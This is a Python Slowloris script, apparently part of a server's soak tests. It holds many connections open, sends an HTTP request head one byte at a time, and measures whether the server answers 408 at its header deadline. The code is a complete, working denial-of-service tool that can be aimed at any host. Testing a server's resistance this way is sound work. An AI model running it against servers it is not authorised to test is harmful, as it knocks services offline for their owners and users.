#!/usr/bin/env python3
"""Slowloris: hold N connections, each sending a request head one byte per interval that never ends.

Each connection first sends a valid start ("GET / HTTP/1.1\\r\\nHost: x\\r\\nX-Slow: ") and then one more byte of
a header value every interval, never the empty line that would end the head. The server is expected to answer
408 and close each one at its header deadline (counted from the first byte).

Timing is taken where scheduling cannot blur it: the first byte's time is read right before its send(), and
the server's answer time is the kernel's receive timestamp of the answer's first bytes (SO_TIMESTAMPNS), so a
client that is slow to run (a busy machine) does not make the server look late.

Prints one status line per second:  t=12.0s open=2000 closed=0 (408=0 other=0 eof=0 reset=0)
and at the end a summary; --json FILE also writes the per-connection results (first byte time, close time,
what was received) for scripts such as soak/slowloris-check.

Usage: slowloris.py [--host 127.0.0.1] --port P [-n 2000] [--interval 1.0] [--duration 60] [--json out.json]
The run ends when every connection is closed, or after --duration seconds (then the rest are closed by us).
"""
import argparse
import errno
import json
import selectors
import socket
import struct
import sys
import time

START = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "
SO_TIMESTAMPNS = getattr(socket, "SO_TIMESTAMPNS", 35)  # 35 on x86-64 and aarch64 (asm-generic)


class Conn:
    __slots__ = ("sock", "state", "first_byte", "first_byte_wall", "answered_wall", "closed_at", "received", "end",
                 "next_send", "sent")

    def __init__(self, sock):
        self.sock = sock
        self.state = "connecting"   # connecting, open, closed
        self.first_byte = None       # monotonic time of the first byte sent
        self.first_byte_wall = None  # the same, wall clock, read right before the send
        self.answered_wall = None    # kernel receive time of the server's first bytes (wall clock)
        self.closed_at = None
        self.received = b""
        self.end = None              # how the server ended it: eof, reset
        self.next_send = 0.0
        self.sent = 0


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("-n", "--connections", type=int, default=2000)
    ap.add_argument("--interval", type=float, default=1.0, help="seconds between bytes on one connection")
    ap.add_argument("--duration", type=float, default=60.0, help="give up (and close what is left) after this")
    ap.add_argument("--json", help="write per-connection results here")
    ap.add_argument("--quiet", action="store_true", help="no per-second lines")
    a = ap.parse_args()

    sel = selectors.DefaultSelector()
    conns = []
    t0 = time.monotonic()
    failed_connects = 0
    for _ in range(a.connections):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.setsockopt(socket.SOL_SOCKET, SO_TIMESTAMPNS, 1)
        s.setblocking(False)
        err = s.connect_ex((a.host, a.port))
        if err not in (0, errno.EINPROGRESS):
            failed_connects += 1
            s.close()
            continue
        c = Conn(s)
        conns.append(c)
        sel.register(s, selectors.EVENT_WRITE, c)

    def close(c, how):
        if c.state == "closed":
            return
        c.state = "closed"
        c.closed_at = time.monotonic()
        c.end = how
        try:
            sel.unregister(c.sock)
        except (KeyError, ValueError):
            pass
        c.sock.close()

    def status_of(c):
        r = c.received
        if r.startswith(b"HTTP/1.1 "):
            return r[9:12].decode("latin-1")
        return ""

    last_report = 0.0
    deadline = t0 + a.duration
    while True:
        now = time.monotonic()
        live = [c for c in conns if c.state != "closed"]
        if not live or now >= deadline:
            break
        # send the next byte where it is due
        for c in live:
            if c.state == "open" and now >= c.next_send:
                chunk = START if c.sent == 0 else b"a"
                try:
                    if c.sent == 0:
                        c.first_byte_wall = time.time()
                    c.sock.send(chunk)
                except BlockingIOError:
                    pass
                except OSError:
                    close(c, "reset")
                    continue
                if c.sent == 0:
                    c.first_byte = now
                c.sent += 1
                c.next_send = now + a.interval
        timeout = max(0.0, min([c.next_send for c in live if c.state == "open"] + [last_report + 1.0]) - time.monotonic())
        for key, ev in sel.select(timeout=min(timeout, 0.2)):
            c = key.data
            if c.state == "connecting":
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    close(c, "connect-failed")
                    continue
                c.state = "open"
                sel.modify(c.sock, selectors.EVENT_READ, c)
                continue
            try:
                data, anc, _, _ = c.sock.recvmsg(65536, socket.CMSG_SPACE(16))
                for level, kind, d in anc:
                    if level == socket.SOL_SOCKET and kind == SO_TIMESTAMPNS and c.answered_wall is None and data:
                        sec, nsec = struct.unpack("qq", d[:16])
                        c.answered_wall = sec + nsec / 1e9
            except BlockingIOError:
                continue
            except OSError:
                close(c, "reset")
                continue
            if not data:
                close(c, "eof")
            else:
                c.received += data[: 4096 - len(c.received)]
        now = time.monotonic()
        if now - last_report >= 1.0:
            last_report = now
            if not a.quiet:
                opened = sum(1 for c in conns if c.state == "open")
                closed = [c for c in conns if c.state == "closed"]
                n408 = sum(1 for c in closed if status_of(c) == "408")
                print(f"t={now - t0:5.1f}s open={opened} connecting={sum(1 for c in conns if c.state == 'connecting')} "
                      f"closed={len(closed)} (408={n408} other={sum(1 for c in closed if status_of(c) not in ('', '408'))} "
                      f"eof={sum(1 for c in closed if c.end == 'eof')} reset={sum(1 for c in closed if c.end == 'reset')})",
                      flush=True)

    by_us = 0
    for c in conns:
        if c.state != "closed":
            close(c, "closed-by-client")
            by_us += 1
    lifetimes = sorted(c.closed_at - c.first_byte for c in conns if c.first_byte is not None and c.end in ("eof", "reset"))
    answers = sorted(c.answered_wall - c.first_byte_wall for c in conns
                     if c.answered_wall is not None and c.first_byte_wall is not None)
    statuses = {}
    for c in conns:
        statuses[status_of(c) or "none"] = statuses.get(status_of(c) or "none", 0) + 1
    summary = {
        "connections": a.connections,
        "failed_connects": failed_connects + sum(1 for c in conns if c.end == "connect-failed"),
        "closed_by_server": sum(1 for c in conns if c.end in ("eof", "reset")),
        "still_open_at_end": by_us,
        "statuses": statuses,
        "lifetime_min_s": round(lifetimes[0], 3) if lifetimes else None,
        "lifetime_median_s": round(lifetimes[len(lifetimes) // 2], 3) if lifetimes else None,
        "lifetime_max_s": round(lifetimes[-1], 3) if lifetimes else None,
        "answered": len(answers),
        "answer_after_min_s": round(answers[0], 3) if answers else None,
        "answer_after_max_s": round(answers[-1], 3) if answers else None,
        "elapsed_s": round(time.monotonic() - t0, 3),
    }
    print("summary " + json.dumps(summary), flush=True)
    if a.json:
        with open(a.json, "w") as f:
            json.dump({"summary": summary, "connections": [
                {"first_byte_s": None if c.first_byte is None else round(c.first_byte - t0, 3),
                 "closed_s": None if c.closed_at is None else round(c.closed_at - t0, 3),
                 "end": c.end, "bytes_sent": c.sent, "status": status_of(c),
                 "answer_after_s": None if c.answered_wall is None or c.first_byte_wall is None
                 else round(c.answered_wall - c.first_byte_wall, 4)} for c in conns]}, f)
    return 0


if __name__ == "__main__":
    sys.exit(main())
